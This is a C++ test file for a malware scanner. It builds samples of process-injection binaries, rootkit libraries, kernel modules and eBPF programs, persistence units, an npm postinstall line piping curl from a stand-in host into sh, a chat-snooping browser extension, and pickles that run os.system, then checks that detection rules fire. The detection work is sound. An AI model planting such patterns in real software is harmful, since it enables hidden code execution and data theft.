// The shipped rules about the structure of programs, over tables a loader reads and over
// near misses.

#include "scan/inspector.h"
#include "scan/pack_test.h"
#include "scan/packed_test.h"
#include "scan/pickle.h"
#include "scan/rule_state.h"

namespace assay {
namespace {

const std::vector<std::string> kTuple = {text_of("VirtualAlloc", "Ex"),
                                         text_of("WriteProcess", "Memory"),
                                         text_of("CreateRemote", "Thread")};
constexpr std::uint32_t kWritableCode = 0xe0000020;

std::string why(std::string_view id, std::string_view content) {
  for (const Finding& finding : scan("x", content)) {
    if (finding.rule == id) return finding.why;
  }
  return {};
}

TEST_CASE("the import table of an injector") {
  const std::string plain = test::pe_program({.imports = kTuple});
  CHECK(fires("DUAL050", "x.exe", plain));
  CHECK(why("DUAL050", plain)
            .ends_with("Seen: imports VirtualAllocEx, imports "
                       "WriteProcessMemory, imports CreateRemoteThread."));
  CHECK_FALSE(fires("DUAL050", "x.exe", test::pe_program({.imports = {kTuple[0], kTuple[1]}})));
  // Names that stand in the file and in no table are no imports.
  CHECK_FALSE(fires("DUAL050", "x.exe", test::pe_program({}) + kInject));
  CHECK(fires("INJECT030", "x.exe",
              test::pe_program({.imports = kTuple, .flags = kWritableCode})));
  CHECK(fires("INJECT030", "x.exe", test::pe_program({.imports = kTuple, .entry = 0x9000})));
  CHECK(fires(
      "INJECT030", "x.dll",
      test::pe_program({.imports = kTuple, .exports = {text_of("Reflective", "Loader")}})));
  CHECK_FALSE(fires("INJECT030", "x.exe", plain));
  CHECK_FALSE(fires("INJECT030", "x.exe", test::pe_program({.flags = kWritableCode})));
}

TEST_CASE("the import table of a hollower") {
  std::vector<std::string> names = {"CreateProcessW", text_of("NtUnmapView", "OfSection"),
                                    kTuple[1], text_of("SetThread", "Context"), "ResumeThread"};
  CHECK(fires("INJECT031", "x.exe", test::pe_program({.imports = names})));
  names[1] = "MapViewOfFile";
  CHECK_FALSE(fires("INJECT031", "x.exe", test::pe_program({.imports = names})));
}

TEST_CASE("an injector packed by UPX") {
  const std::string program = kInject + std::string(3000, 'x');
  CHECK(fires("INJECT032", "x.exe", test::packed_pe(program, test::lzma_block(program), 14)));
  CHECK_FALSE(fires("INJECT032", "x.exe", pe(program)));
}

TEST_CASE("a packed program") {
  const std::vector<std::string> two = {"LoadLibraryA", "GetProcAddress"};
  CHECK(fires("DUAL051", "x.exe",
              test::pe_program({.imports = two, .flags = kWritableCode, .second = "a"})));
  CHECK_FALSE(fires("DUAL051", "x.exe", test::pe_program({.imports = two})));
}

TEST_CASE("a driver that hands out memory") {
  CHECK(
      fires("DUAL052", "x.sys",
            test::pe_program({.imports = {"IoCreateDevice", "MmMapIoSpace"}, .subsystem = 1})));
  CHECK(is_quiet("x.sys", test::pe_program({.imports = {"IoCreateDevice"}, .subsystem = 1})));
}

TEST_CASE("libraries in front of the C library") {
  const auto library = [](std::vector<std::string> defines, const std::string& text) {
    return test::elf_library({.defines = std::move(defines), .needs = {"dlsym"}, .text = text});
  };
  CHECK(fires("ROOT030", "x.so", library({"readdir"}, "")));
  CHECK(why("ROOT030", library({"readdir"}, ""))
            .ends_with(
                "Seen: imports dlsym, stands in front of readdir, defines few functions."));
  std::vector<std::string> many = {"readdir"};
  for (char c = 'a'; c <= 'z'; ++c) many.push_back(std::string("own_") + c);
  CHECK(fires("ROOT030", "x.so", library(many, "/proc/%s")));
  CHECK_FALSE(fires("ROOT030", "x.so", library(many, "")));
  many.push_back("__asan_init");
  CHECK_FALSE(fires("ROOT030", "x.so", library(many, "/proc/%s")));
  CHECK_FALSE(
      fires("ROOT030", "x",
            test::elf_library({.defines = {"readdir"}, .needs = {"dlsym"}, .program = true})));
  CHECK(
      fires("ROOT031", "x.so", library({"accept", "open"}, text_of("/etc/ld.so", ".preload"))));
  CHECK(fires("DUAL060", "x.so", library({"accept", "open"}, "")));
  CHECK(is_quiet("x.so", library({"accept", "open"}, "")));
  CHECK(is_quiet("x.so", test::elf_library({.defines = {"open"}})));
}

TEST_CASE("kernel modules by what they need") {
  const std::string find = text_of("kallsyms_", "lookup_name"),
                    root = text_of("commit_", "creds");
  const std::string info = std::string("license=GPL") + '\0';
  CHECK(fires(
      "ROOT032", "x.ko",
      test::kernel_object({"register_kprobe", root}, info, text_of("x64_sys_get", "dents64"))));
  CHECK_FALSE(
      fires("ROOT032", "x.ko", test::kernel_object({root}, info, "x64_sys_getdents64")));
  CHECK_FALSE(
      fires("ROOT032", "x.ko", test::kernel_object({"register_kprobe"}, info, "getdents")));
  CHECK(fires("ROOT033", "x.ko",
              test::kernel_object({"register_kprobe", "set_memory_rw", root}, info)));
  CHECK_FALSE(fires("ROOT033", "x.ko",
                    test::kernel_object({"register_kprobe", "set_memory_rw"}, info)));
  CHECK(fires("DUAL061", "x.ko", test::kernel_object({find}, info)));
  CHECK_FALSE(
      fires("DUAL061", "x.ko",
            test::kernel_object({find}, info) + text_of("~Module signature ", "appended~\n")));
  CHECK(is_quiet("x.ko", test::kernel_object({"printk"}, info)));
}

/// An instruction that calls a helper of the kernel.
std::string call_helper(unsigned number) {
  std::string code(8, '\0');
  code[0] = '\x85';
  test::put(code, 4, number, 4);
  return code;
}

TEST_CASE("eBPF objects by what they sit on and call") {
  const std::string write_user = call_helper(36), plain = call_helper(6);
  const std::string hide = "tp/syscalls/sys_exit_" + std::string("getdents64");
  const auto one = [](const std::string& section, const std::string& code) {
    return test::bpf_object({{section, code}});
  };
  CHECK(fires("ROOT020", "x.o", one(hide, plain + write_user)));
  CHECK(why("ROOT020", one(hide, write_user))
            .ends_with("Seen: calls bpf_probe_write_user, sits on getdents64."));
  CHECK(is_quiet("x.o", one(hide, plain)));
  CHECK(is_quiet("x.o", one("uprobe/own", write_user)));
  // In two programs of one object; in one that a loader carries.
  const std::string two = test::bpf_object({{hide, plain}, {"fexit/other", write_user}});
  CHECK(fires("ROOT020", "x.o", two));
  CHECK(fires("ROOT020", "x", elf(std::string(100, 'x') + two)));
  // What no call is: the second half of a wide load, and a function of the program's own.
  std::string load(8, '\0'), own = write_user;
  load[0] = '\x18';
  own[1] = '\x10';
  CHECK(is_quiet("x.o", one(hide, load + write_user)));
  CHECK(is_quiet("x.o", one(hide, own)));
  CHECK(fires("ROOT021", "x.o", one("tp/syscalls/sys_exit_read", write_user)));
  CHECK(fires("ROOT021", "x.o", one("kprobe/__x64_sys_openat", call_helper(58))));
  CHECK_FALSE(fires("ROOT021", "x.o", one("tp/syscalls/sys_exit_read", plain)));
  CHECK(fires("ROOT022", "x.o", one("fmod_ret/__x64_sys_kill", plain)));
  CHECK_FALSE(fires("ROOT022", "x.o", one("fentry/__x64_sys_kill", plain)));
  CHECK(fires("ROOT023", "x.o", one("tp/syscalls/sys_enter_ptrace", call_helper(109))));
  CHECK_FALSE(fires("ROOT023", "x.o", one("tp/syscalls/sys_enter_ptrace", plain)));
  CHECK(fires("DUAL062", "x.o", one("uprobe/own", call_helper(36))));
  CHECK_FALSE(fires("DUAL062", "x.o", one("uprobe/own", plain)));
}

std::string unit(const std::string& rest) {
  return "[Unit]\nDescription=x\n[Service]\n" + rest;
}

TEST_CASE("units by what they start") {
  CHECK(fires("PERSIST020", "x.service", unit("ExecStart=-/home/x/run\n")));
  CHECK(fires("PERSIST020", "x.service",
              unit("ExecStart = /bin/sh -c /dev/"
                   "shm/x\n")));
  CHECK_FALSE(fires("PERSIST020", "x.service", unit("User=x\nExecStart=/home/x/run\n")));
  CHECK(fires("PERSIST021", "x.service", unit("ExecStart=/usr/lib/.x/run\nRestart=always\n")));
  CHECK_FALSE(fires("PERSIST021", "x.service", unit("ExecStart=/usr/lib/.x/run\n")));
  CHECK_FALSE(fires("PERSIST021", "x.service", unit("ExecStart=/usr/bin/x\nRestart=always\n")));
  CHECK(fires("DUAL041", "x.service", unit("ExecStart=/usr/bin/curl https://x.example\n")));
  CHECK_FALSE(fires("DUAL041", "x.service",
                    unit("DynamicUser=yes\nExecStart=/usr/bin/curl https://x.example\n")));
  CHECK(is_quiet("x.service", unit("ExecStart=/usr/bin/x\nRestart=always\n")));
  CHECK(fires("PERSIST023", "a.deb!/etc/cron.d/x",
              "* * * * * root /dev/"
              "shm/agent --quiet --once --log /dev/null\n"));
  CHECK_FALSE(fires("PERSIST023", "a.deb!/etc/cron.d/x", "* * * * * root /usr/bin/x\n"));
}

TEST_CASE("npm hooks, however they are spelled") {
  const std::string pipe = text_of("\\u0063url -s https://x.example/y ", "| sh");
  CHECK(fires("PERSIST001", "package/package.json",
              R"({"name": "x", "scripts": {"postinstall": ")" + pipe + R"("}})"));
  CHECK(is_quiet("package/package.json",
                 R"({"name": "x", "scripts": {"test": ")" + pipe + R"("}})"));
}

TEST_CASE("what Python starts with") {
  CHECK(fires("PERSIST022", "x.pth", "import os; exec(open('/x').read())\n"));
  CHECK_FALSE(fires("PERSIST022", "x.pth", "import os; os.environ.get('X')\n"));
  CHECK_FALSE(fires("PERSIST022", "x.pth", "../lib\n"));
}

std::string manifest(const std::string& rest) {
  return R"({"manifest_version": 3, "content_scripts": [{"matches": ["https://chatgpt.com/*"],)"
         R"( "js": ["x.js"]}], )" +
         rest + "}";
}

TEST_CASE("browser extensions in AI chats") {
  const std::string socket =
      R"("content_security_policy": {"extension_pages": "connect-src wss://x.example"})";
  CHECK(fires("EXT001", "x.crx!/manifest.json",
              manifest(R"("permissions": ["webRequest"], )" + socket)));
  CHECK_FALSE(fires("EXT001", "manifest.json", manifest(socket)));
  CHECK_FALSE(fires("EXT001", "manifest.json", manifest(R"("permissions": ["webRequest"])")));
  CHECK(fires("DUAL070", "manifest.json", manifest(R"("permissions": ["cookies"])")));
  CHECK_FALSE(fires("DUAL070", "manifest.json", manifest(R"("permissions": ["storage"])")));
  CHECK(is_quiet("manifest.json", R"({"manifest_version": 3, "permissions": ["<all_urls>"]})"));
  const std::string patch = text_of("const f = window.fetch; window.", "fetch = x; ");
  const std::string out = text_of("new WebSocket(\"wss:", "//x.example\")");
  CHECK(fires("EXT002", "x.js", "if (host == \"chatgpt.com\") " + patch + out));
  CHECK_FALSE(fires("EXT002", "x.js", "if (host == \"chatgpt.com\") " + patch));
  CHECK_FALSE(fires("EXT002", "x.js", patch + out));
}

TEST_CASE("pickles") {
  const std::string head = "\x80\x04";
  const auto text = [](const std::string& word) {
    return "\x8c" + std::string(1, static_cast<char>(word.size())) + word;
  };
  const std::string call = "\x93(tR." + std::string(40, '\x02');
  CHECK(fires("MODEL001", "x.pkl", head + text("posix") + text("system") + call));
  CHECK(
      fires("MODEL001", "x.bin", "cos\nsystem\n(S'/usr/lib/agent/agent --quiet --once'\ntR."));
  // Through the memo, behind a first pickle, and where it breaks afterwards.
  CHECK(fires("MODEL001", "x.pt",
              head + "N." + head + text("os") + "\x94" + text("popen") + "h" +
                  std::string(1, '\0') + text("system") + "\x93)R" + "\xff" +
                  std::string(40, '\x02')));
  CHECK_FALSE(fires("MODEL001", "x.pkl", head + text("posix") + text("system") + "\x93."));
  CHECK(fires("MODEL002", "x.pkl", head + text("o") + "K\x01" + call));
  CHECK_FALSE(
      fires("MODEL002", "x.pkl", head + text("collections") + text("OrderedDict") + call));
  CHECK(fires("DUAL071", "x.pkl", head + text("sklearn.svm") + text("SVC") + call));
  CHECK_FALSE(fires("DUAL071", "x.pkl", head + "ctorch._utils\n_rebuild_tensor_v2\n(tR."));
  CHECK(is_quiet("x.pkl", head + "ctorch._utils\n_rebuild_tensor_v2\n(tR."));
}

TEST_CASE("models that are no data alone") {
  const auto onnx = [](const std::string& path) {
    std::string length(1, static_cast<char>(path.size() & 127U));
    if (path.size() > 127) {
      length[0] = static_cast<char>(128U + (path.size() & 127U));
      length += static_cast<char>(path.size() >> 7U);
    }
    return "\x08\x07\x0a\x08location\x12" + length + path + std::string(40, '\x02');
  };
  CHECK(fires("MODEL003", "x.onnx", onnx("../../etc")));
  for (const std::string path :
       {"/etc/x", "a/../../x", "C:\\x", "a\\..\\x", "\\\\x\\y", ".."}) {
    CHECK(fires("MODEL003", "x.onnx", onnx(path)));
  }
  CHECK(fires("MODEL003", "x.onnx", onnx(std::string(200, 'a') + "/../../x")));
  for (const std::string path : {"weights.b", "a/b..c", "..a", "a/b/c", ""}) {
    CHECK(is_quiet("x.onnx", onnx(path)));
  }
  const std::string config = R"({"keras_version": "3", "class_name": "Lambda")";
  CHECK(fires("MODEL004", "config.json", config + R"(, "class": "__lambda__"})"));
  CHECK(is_quiet("config.json", config + "}"));
}

std::string number(std::uint64_t value, std::size_t size) {
  std::string bytes(size, '\0');
  test::put(bytes, 0, value, size);
  return bytes;
}

std::string safetensors(const std::string& header, const std::string& data) {
  return number(header.size(), 8) + header + data;
}

TEST_CASE("safetensors, to the last byte") {
  const std::string a = R"("a":{"dtype":"F16","shape":[2,2],"data_offsets":[0,8]})";
  const std::string b = R"("b":{"dtype":"U8","shape":[4],"data_offsets":[8,12]})";
  const std::string note = R"("__metadata__":{"format":"pt"})";
  const std::string good = safetensors("{" + note + "," + b + "," + a + "}  ", "12345678abcd");
  const auto bad = [](const std::string& content) {
    return fires("MODEL005", "x.safetensors", content);
  };
  CHECK(is_quiet("x.safetensors", good));
  CHECK(bad(good + "x"));
  CHECK(why("MODEL005", good + "x").ends_with("Seen: holds bytes of no tensor."));
  CHECK(bad(good.substr(0, good.size() - 1)));
  CHECK(bad(good.substr(0, 60)));
  CHECK(bad(safetensors("{" + b + "}", "12345678abcd")));
  CHECK(bad(safetensors("{" + a + "," + a + "}", "12345678")));  // a name twice
  CHECK(bad(safetensors("{" + a + R"(,"c":{"dtype":"U8","shape":[8],"data_offsets":[0,8]}})",
                        "12345678")));
  CHECK(bad(
      safetensors(R"({"a":{"dtype":"F16","shape":[3],"data_offsets":[0,8]}})", "12345678")));
  CHECK(bad(
      safetensors(R"({"a":{"dtype":"F99","shape":[4],"data_offsets":[0,8]}})", "12345678")));
  CHECK(bad(
      safetensors(R"({"a":{"dtype":"U8","shape":[-8],"data_offsets":[0,8]}})", "12345678")));
  CHECK(bad(safetensors(R"({"a":{"dtype":"U8","shape":[8]}})", "12345678")));
  CHECK(bad(safetensors("[" + note + "]", "")));
  CHECK(bad(number(1ULL << 40U, 8) + "{}"));
  CHECK(bad("x"));
  CHECK(fires("MODEL005", "model.bin", good + "x"));
  CHECK(is_quiet("x.safetensors", safetensors("{}", "")));
}

std::string gguf_text(const std::string& text) {
  return number(text.size(), 8) + text;
}

/// Two values, one of them the template, and a tensor of 40 numbers of two bytes.
std::string gguf(const std::string& chat_template, const std::string& behind = {},
                 std::uint64_t type = 1, std::uint64_t offset = 0) {
  std::string bytes = "GGUF" + number(3, 4) + number(1, 8) + number(3, 8);
  bytes += gguf_text("general.name") + number(8, 4) + gguf_text("x");
  bytes += gguf_text("tokens") + number(9, 4) + number(8, 4) + number(2, 8) + gguf_text("a") +
           gguf_text("b");
  bytes += gguf_text("tokenizer.chat_template") + number(8, 4) + gguf_text(chat_template);
  bytes += gguf_text("t") + number(2, 4) + number(20, 8) + number(2, 8) + number(type, 4) +
           number(offset, 8);
  bytes.resize((bytes.size() + 31) / 32 * 32);
  return bytes + std::string(80, 'w') + behind;
}

TEST_CASE("GGUF, to the last byte") {
  const std::string plain = "{% for m in messages %}{{ m.content }}{% endfor %}";
  const auto bad = [](const std::string& content) {
    return fires("MODEL005", "x.gguf", content);
  };
  CHECK(is_quiet("x.gguf", gguf(plain)));
  CHECK(is_quiet("x.gguf", gguf(plain, std::string(16, '\0'))));
  CHECK(bad(gguf(plain, std::string(16, 'x'))));
  CHECK(bad(gguf(plain, std::string(32, '\0'))));
  CHECK(bad(gguf(plain, {}, 1, 32)));                    // beyond the end
  CHECK(bad(gguf(plain, std::string(32, 'w'), 1, 32)));  // a gap in front
  CHECK(bad(gguf(plain, {}, 2)));                        // 40 values in blocks of 32
  CHECK(bad(gguf(plain).substr(0, 60)));
  CHECK(bad("GGUF" + number(3, 4) + number(~0ULL, 8) + number(~0ULL, 8)));
  CHECK(fires("MODEL006", "x.gguf",
              gguf("{{ ().__class__.__base__.__sub"
                   "classes__() }}")));
  CHECK_FALSE(fires("MODEL006", "x.gguf", gguf(plain)));
  Scanner scanner(pack());
  const Member member{.path = "x.gguf", .type = "data"};
  CHECK_FALSE(scanner.scan(member, as_bytes(gguf(plain, {}, 999))));
  CHECK_FALSE(scanner.scan(member, as_bytes("GGUF" + number(9, 4))));
}

TEST_CASE("tables of models changed or cut anywhere") {
  const std::string samples[] = {
      gguf("{{ x }}"),
      safetensors(R"({"a":{"dtype":"U8","shape":[8],"data_offsets":[0,8]}})", "12345678"),
      "\x0a\x08location\x12\xff\x01../x"};
  const Member member{.path = "x.safetensors", .type = "data"};
  for (const std::string& sample : samples) {
    for (std::size_t at = 0; at < sample.size(); ++at) {
      for (const unsigned value : {0x00U, 0x01U, 0x7fU, 0xffU}) {
        std::string changed = sample;
        changed[at] = static_cast<char>(value);
        for (const std::string& content : {changed, sample.substr(0, at)}) {
          std::vector<View> views;
          for (const Inspector* inspector : inspectors()) {
            if (!inspector->reads_structure) continue;
            (void)inspector->inspect({.hidden = pack().state().hidden}, member,
                                     as_bytes(content), views);
          }
          for (const View& view : views) CHECK(view.owned.size() < 4096);
        }
      }
    }
  }
}

TEST_CASE("a pickle changed or cut anywhere ends") {
  const std::string sample = std::string("\x80\x04\x95\x10\0\0\0\0\0\0\0", 11) +
                             "\x8c\x05posix\x94\x8c\x06system\x94\x93\x94(K\x01M\x01\x02]\x94"
                             "e}s\x85\x94R\x94"
                             "cos\nx\n\x81\x92"
                             "bp1\ng1\n.";
  const PickleVisitor visitor{.looks_up = [](std::string_view, std::string_view) {},
                              .calls = [] {}};
  for (std::size_t at = 0; at < sample.size(); ++at) {
    CHECK(run_pickle(as_bytes(sample).first(at), visitor));
    for (int value = 0; value < 256; ++value) {
      std::string changed = sample;
      changed[at] = static_cast<char>(value);
      const auto length = run_pickle(as_bytes(changed), visitor);
      REQUIRE(length);
      REQUIRE(*length <= changed.size());
    }
  }
  CHECK_FALSE(run_pickle(as_bytes(std::string(2 << 20, '(')), visitor));
}

TEST_CASE("any byte of a table changed") {
  Scanner scanner(pack());
  const std::string samples[] = {
      test::pe_program({.imports = kTuple, .exports = {"f"}, .second = "a"}),
      test::elf_library({.defines = {"readdir"}, .needs = {"dlsym"}}),
      test::kernel_object({"printk"}, std::string("license=GPL\0", 12)),
      test::bpf_object({{"tp/syscalls/sys_exit_read", call_helper(36)}})};
  for (const std::string& sample : samples) {
    Member member;
    member.type = sample.starts_with("MZ") ? "pe" : "elf";
    const std::size_t size = std::min<std::size_t>(sample.size(), 1024);
    for (std::size_t at = 2; at < size; ++at) {
      for (const unsigned value : {0x00U, 0x01U, 0x7fU, 0xffU}) {
        std::string changed = sample;
        changed[at] = static_cast<char>(value);
        std::vector<View> views;
        for (const Inspector* inspector : inspectors()) {
          if (!inspector->reads_structure) continue;
          (void)inspector->inspect({.hidden = pack().state().hidden}, member, as_bytes(changed),
                                   views);
        }
        for (const View& view : views) CHECK(view.owned.size() < 4096);
      }
    }
  }
}

}  // namespace
}  // namespace assay
